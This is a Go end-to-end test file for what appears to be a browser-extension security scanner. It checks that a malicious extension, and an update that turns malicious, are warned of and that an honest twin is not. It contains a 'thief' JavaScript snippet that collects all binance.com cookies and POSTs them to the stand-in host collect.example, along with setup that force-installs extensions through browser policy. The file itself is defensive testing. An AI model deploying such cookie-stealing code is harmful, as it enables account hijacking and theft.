//go:build linux

package e2e

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// Code of our own that is inert here: the network namespace has no way out, and the hosts are reserved names.
const (
	honest = `chrome.runtime.onInstalled.addListener(() => chrome.cookies.getAll({domain: "binance.com"}, (all) => {
  chrome.storage.local.set({signedIn: all.length > 0});
}));
`
	thief = `chrome.runtime.onInstalled.addListener(() => chrome.cookies.getAll({domain: "binance.com"}, (all) => {
  fetch("https://collect.example/", {method: "POST", body: JSON.stringify(all)});
}));
`
)

// A shop serves extensions to a browser that policy tells to take them.
type shop struct {
	t    *testing.T
	base string
	mux  *http.ServeMux
}

func newShop(t *testing.T) *shop {
	t.Helper()
	listen, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &shop{t: t, base: "http://" + listen.Addr().String(), mux: http.NewServeMux()}
	server := &http.Server{Handler: s.mux}
	go server.Serve(listen)
	t.Cleanup(func() { server.Close() })
	return s
}

// sell offers version 1.0 of an extension and returns the policy's line for it.
func (s *shop) sell(id string, crx []byte) string {
	s.mux.HandleFunc("/"+id+".xml", func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprintf(w, `<?xml version='1.0'?><gupdate xmlns='http://www.google.com/update2/response' protocol='2.0'>
<app appid='%s'><updatecheck codebase='%s/%s.crx' version='1.0'/></app></gupdate>`, id, s.base, id)
	})
	s.mux.HandleFunc("/"+id+".crx", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/x-chrome-extension")
		w.Write(crx)
	})
	return fmt.Sprintf("%q", id+";"+s.base+"/"+id+".xml")
}

// warnedOf reports whether a warning named a rule as new.
func (l *lab) warnedOf(id, rule string) bool {
	return slices.ContainsFunc(l.all("warning", id), func(e event) bool { return slices.Contains(e.New, rule) })
}

// What only the code shows is warned of after it was analysed; an honest twin is not.
func TestThiefInCode(t *testing.T) {
	l, bad, good := newLab(t), newProduct(t), newProduct(t)
	s := newShop(t)
	stolen, _ := bad.packWith(manifest("Quick Quotes", "1.0"), thief)
	sold, _ := good.packWith(manifest("Honest Quotes", "1.0"), honest)
	setPolicy(t, fmt.Sprintf(`{"ExtensionInstallForcelist":[%s,%s]}`, s.sell(bad.id, stolen), s.sell(good.id, sold)))

	l.run(t)
	b := startChromium(t, l.home)
	waitFor(t, "both extensions", patience, func() bool { return l.count("judged", bad.id) > 0 && l.count("judged", good.id) > 0 })
	waitFor(t, "the warning of the thief", patience, func() bool { return l.warnedOf(bad.id, "session-cookie-theft") })
	if v := l.all("new", bad.id)[0].Extension.Verdict; v != "capable" {
		t.Errorf("by its manifest the thief is %s, want capable", v)
	}
	reportDelays(t, l, bad.id, "1.0_0")
	waitFor(t, "its preferences", patience, func() bool { return fileHas(preferences(l.home), bad.id) })
	b.stop(t)
	if n := l.count("warning", good.id); n != 0 {
		t.Errorf("warned %d times of the honest one", n)
	}
	if n := l.count("warning", bad.id); n != 1 {
		t.Errorf("warned %d times of the thief, want once", n)
	}
	e := l.scan(t, bad.id)
	expect(t, e, extension{Name: "Quick Quotes", Version: "1.0", Origin: "policy", Enabled: true, Verdict: e.Verdict})
	for _, f := range e.Findings {
		if f.Rule == "session-cookie-theft" && len(f.Flow) > 0 && strings.Contains(f.Flow[0].Story, "POST to collect.example") {
			return
		}
	}
	t.Errorf("scan does not tell the story: %+v", e.Findings)
}

// What an update began to do is told as such.
func TestUpdateBecomesThief(t *testing.T) {
	l, p := newLab(t), newProduct(t)
	external := filepath.Join(externalDir, p.id+".json")
	offer := func(version, code string) {
		crx, _ := p.packWith(manifest("Honest Quotes", version), code)
		file := filepath.Join(l.tmp, "quotes-"+version+".crx")
		if err := os.WriteFile(file, crx, 0o644); err != nil {
			t.Fatal(err)
		}
		writeFile(t, external, fmt.Sprintf(`{"external_crx":%q,"external_version":%q}`, file, version))
	}
	offer("1.0", honest)
	t.Cleanup(func() { os.Remove(external) })
	l.run(t)
	b := startChromium(t, l.home)
	waitFor(t, "the honest version", patience, func() bool { return l.count("judged", p.id) > 0 })
	waitFor(t, "its preferences", patience, func() bool { return fileHas(preferences(l.home), p.id) })
	b.stop(t)
	if l.warnedOf(p.id, "gained-theft") || l.warnedOf(p.id, "session-cookie-theft") {
		t.Error("the honest version is called a thief")
	}

	offer("2.0", thief)
	startChromium(t, l.home)
	waitFor(t, "the warning of what the update gained", patience, func() bool { return l.warnedOf(p.id, "gained-theft") })
	if !l.warnedOf(p.id, "session-cookie-theft") {
		t.Error("not warned of what it does")
	}
}
